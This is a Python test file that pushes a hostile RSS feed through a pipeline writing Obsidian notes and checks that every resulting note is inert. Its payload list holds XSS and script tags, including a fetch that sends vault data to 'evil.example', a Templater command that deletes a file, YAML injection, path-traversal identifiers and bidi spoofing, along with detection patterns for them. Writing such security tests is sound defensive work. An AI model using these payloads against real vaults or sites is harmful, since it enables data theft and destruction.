"""Hostile feed text through the whole pipeline: every Signal parses back, holds nothing that
Obsidian (or a plugin scanning raw notes) would act on, and lies at its normal path; nothing
appears anywhere else in the vault."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path
from xml.sax.saxutils import escape

import yaml

from radar_pipeline.core.collect.collector import Collector
from radar_pipeline.core.config import Settings
from radar_pipeline.core.plan.collection import CollectionSpec
from radar_pipeline.core.vault.signals import SIGNAL_ID_RE, read_signal_frontmatter
from radar_pipeline_tests.conftest import collect_stages, new_collection_id
from radar_pipeline_tests.feedserver import FeedServer
from radar_pipeline_tests.vaultkit import signal_files, write_source

AS_OF = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
DATE = "Mon, 30 Nov 2026 11:00:00 GMT"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
FENCE = "```dataviewjs\ndv.paragraph(app.vault.adapter.basePath)\n```"
TEMPLATER = "<%* await app.vault.adapter.remove('Site Content/index.md') %><% tp.file.title %>"

# (guid, link, title, description); text is XML-escaped, so the feed carries it as characters.
HOSTILE: list[tuple[str, str, str, str]] = [
    (
        "yaml",
        "https://example.com/yaml",
        "key: value\n---\nentityType: source\n- list\n? complex\n&anchor *alias !!python/object "
        "{flow: map} [seq] | > % @ ` ' \" # comment",
        "---\nid: evil\n...\n%YAML 1.1\n!!binary AAAA",
    ),
    (
        "newlines",
        "https://example.com/newlines",
        "first line\r\nsecond line\nthird\u2028fourth\u0085fifth\x0bsixth",
        "para one\n\n\n\npara two\r\n",
    ),
    (
        "fence",
        "https://example.com/fence",
        FENCE,
        f"Before\n{FENCE}\n~~~dataview\nLIST\n~~~\nAfter",
    ),
    ("templater", "https://example.com/tp", TEMPLATER, f"Text {TEMPLATER} more"),
    (
        "script",
        "https://example.com/script",
        "<script>alert(document.cookie)</script>Real title",
        '<p>Hi</p><script>fetch("https://evil.example/"+app.vault)</script>'
        '<img src=x onerror="alert(1)"><iframe src="obsidian://open?vault=x"></iframe>',
    ),
    ("bidi", "https://example.com/bidi", f"invoice{BIDI}fdp.exe", f"text{BIDI}hidden"),
    (
        "links",
        "https://example.com/links",
        "See [[Site Content/secret]] and ![[private.png]] [x](obsidian://open?file=a)",
        "Body [[../../Site Content/x|alias]] ![[Radar/Sources/openai-news.md]] #tag key:: value "
        "`$= dv.current()` `= this.file.name` $$\\LaTeX$$ <!-- c --> %%comment%% ==mark==",
    ),
    (
        "../../Site Content/x",
        "https://example.com/traversal",
        "Traversal guid",
        "The guid tries to reach outside Radar/Signals.",
    ),
    ("/etc/passwd\x00.md", "https://example.com/abs", "Absolute guid", "Absolute path guid."),
    ("[[guid-link]]<%guid%>", "https://example.com/guid-text", "Hostile guid", "Guid text."),
    ("long", "https://example.com/long", "T" * 10_000, "D" * 10_000),
    (
        "link-text",
        "https://example.com/p?q=[[x]]&t=<%25tp%25>&u=<script>#![[y]]",
        "Hostile link",
        "The link carries the payloads.",
    ),
]

LIVE_PATTERNS = {
    "fence": re.compile(r"^\s*(```|~~~)", re.MULTILINE),
    "script": re.compile(r"<\s*script", re.IGNORECASE),
    "html": re.compile(r"<\s*(iframe|img|object|embed|style)", re.IGNORECASE),
    "wikilink": re.compile(r"\[\["),
    "templater": re.compile(r"<%"),
    "bidi": re.compile(f"[{BIDI}]"),
    "control": re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x85\u2028\u2029]"),
}


def hostile_feed() -> bytes:
    items = "".join(
        f'<item><guid isPermaLink="false">{_x(guid)}</guid><link>{_x(link)}</link>'
        f"<title>{_x(title)}</title><description>{_x(body)}</description>"
        f"<pubDate>{DATE}</pubDate></item>"
        for guid, link, title, body in HOSTILE
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Hostile</title>'
        f"<link>https://example.com/</link><description>d</description>{items}</channel></rss>"
    ).encode()


def _x(text: str) -> str:
    # XML 1.0 cannot carry most C0 controls even as references; they become U+FFFD-free text.
    return escape("".join(ch if ch in "\t\n\r" or ch >= " " else " " for ch in text))


def tree(vault: Path) -> dict[str, bytes]:
    return {
        p.relative_to(vault).as_posix(): p.read_bytes()
        for p in sorted(vault.rglob("*"))
        if p.is_file() or p.is_symlink()
    }


def test_hostile_items_become_inert_signals_at_their_normal_paths(
    radar_env: dict[str, Path], feed_server: FeedServer
) -> None:
    vault = radar_env["vault"]
    (vault / "Site Content" / "index.md").write_text("published\n", encoding="utf-8")
    url = feed_server.add("/hostile.xml", hostile_feed())
    write_source(vault, "hostile", url)
    before = tree(vault)

    collector = Collector(Settings.from_env())
    report = collect_stages(
        collector, CollectionSpec(new_collection_id(), "all", AS_OF, ())
    ).json_object()
    assert report["sources"][0]["outcome"] == "passed", report
    assert (report["created"], report["rejected"]) == (len(HOSTILE), 0)

    after = tree(vault)
    # Only new Signal files (and the Source's own health keys, and lock files) changed.
    changed = {k for k in after if before.get(k) != after[k]}
    signals = {k for k in changed if k.startswith("Radar/Signals/")}
    others = changed - signals - {"Radar/Sources/hostile.md"}
    assert {k for k in others if not k.startswith(".radar/locks/")} == set()
    assert set(before) <= set(after)
    assert {k: after[k] for k in before if k.startswith("Site Content/")} == {
        k: v for k, v in before.items() if k.startswith("Site Content/")
    }

    files = signal_files(vault)
    assert sorted(f"Radar/Signals/{p.name}" for p in files) == sorted(signals)
    seen_guids = set()
    for path in files:
        assert path.parent == vault / "Radar" / "Signals"
        assert SIGNAL_ID_RE.fullmatch(path.stem), path.name
        assert not path.is_symlink()
        text = path.read_text(encoding="utf-8")
        fm = read_signal_frontmatter(path)
        header = text[4 : text.index("\n---\n", 4) + 1]
        assert yaml.safe_load(header) == fm  # any YAML reader gets the same values
        assert fm["id"] == path.stem
        # The only links in a Signal's raw text are the two the pipeline makes: the
        # Source note and, when flagged, the earlier Signal; every other line stays inert.
        assert fm["source"] == "[[hostile]]"
        assert fm["duplicateCandidateOf"] in (None, "") or re.fullmatch(
            r"\[\[\d{8}T\d{6}Z-[0-9a-f]{16}\]\]", fm["duplicateCandidateOf"]
        )
        third_party = re.sub(r"(?m)^(source|duplicateCandidateOf): '\[\[[^\]]+\]\]'$", "", text)
        for name, pattern in LIVE_PATTERNS.items():
            assert not pattern.search(third_party), (name, path.name, pattern.search(third_party))
        assert len(text) < 12_000, path.name  # long fields are bounded
        assert isinstance(fm["title"], str) and "\n" not in fm["title"]
        seen_guids.add(fm["sourceItemId"])
    assert len(seen_guids) == len(HOSTILE)

    by_link = {read_signal_frontmatter(p)["canonicalUrl"]: p for p in files}
    long_fm = read_signal_frontmatter(by_link["https://example.com/long"])
    assert long_fm["title"].endswith("[…truncated]") and len(long_fm["title"]) <= 300
    # Plain text survives as text: a fence or a script is shown, just not run.
    fence_body = by_link["https://example.com/fence"].read_text(encoding="utf-8")
    assert "dataviewjs" in fence_body and "&#96;&#96;&#96;dataviewjs" in fence_body

    again = collect_stages(
        collector, CollectionSpec(new_collection_id(), "all", AS_OF, ())
    ).json_object()
    assert (again["created"], again["rejected"]) == (0, 0)
    assert tree(vault).keys() == after.keys()
